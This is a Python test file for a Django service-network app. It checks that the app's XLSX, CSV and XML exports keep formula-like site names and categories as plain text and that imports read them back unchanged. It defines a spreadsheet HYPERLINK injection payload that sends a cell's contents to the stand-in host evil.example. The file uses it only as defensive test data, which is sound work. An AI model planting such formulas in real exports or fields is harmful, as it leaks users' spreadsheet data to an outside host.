"""The network's exports carry hostile names as data, and read back as the same text."""

import io
from datetime import date
from xml.etree import ElementTree

from django.test import Client
from openpyxl import load_workbook

from cuncun.core.exports import FORMULA_STARTS, csv_rows, decode_text
from cuncun.network.models import Site, SiteService
from cuncun.network.services import record_service
from tests.conftest import village
from tests.factories import site_in
from tests.network.builders import import_register

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2,"点我")'


def _office(office_user) -> Client:
    client = Client()
    client.force_login(office_user)
    return client


def test_a_site_named_like_a_formula_exports_as_text_and_imports_back_unchanged(office_user):
    site = site_in(village("嘎洒镇", "曼达村委会"), name=HOSTILE_NAME)
    client = _office(office_user)

    exported = client.get("/network/manage/export.xlsx").content

    sheet = load_workbook(io.BytesIO(exported)).active
    names = [c.value for c in sheet[1]].index("名称")
    written = sheet.cell(2, names + 1)
    assert written.data_type == "s" and not written.value.startswith(FORMULA_STARTS)
    again = io.BytesIO(exported)
    again.name = "sites.xlsx"
    assert "0 个站点已登记，0 个已更新，1 个未变" in import_register(client, again)
    site.refresh_from_db()
    assert site.name == HOSTILE_NAME and Site.objects.count() == 1


def test_the_daily_report_carries_a_hostile_category_as_data_in_csv_and_xml(office_user):
    site = site_in(village("嘎洒镇", "曼达村委会"), opened_on=date(2017, 3, 1))
    category = "=1+2\x0b茶叶"
    record_service(
        actor=None,
        site=site,
        kind=SiteService.ASSISTED_SALE,
        day=date(2017, 5, 1),
        amount="10",
        category=category,
        authorized_by_caller=True,
    )
    client = _office(office_user)

    body = client.get("/network/report/daily/", {"day": "2017-05-01"}).content
    xml = client.get("/network/report/daily/", {"day": "2017-05-01", "format": "xml"}).content

    header, row = list(csv_rows(decode_text(body)))
    assert "'=1+2" in body.decode("utf-8-sig")
    assert row[header.index("category")] == category
    assert ElementTree.fromstring(xml).find("site/category").text == "=1+2茶叶"
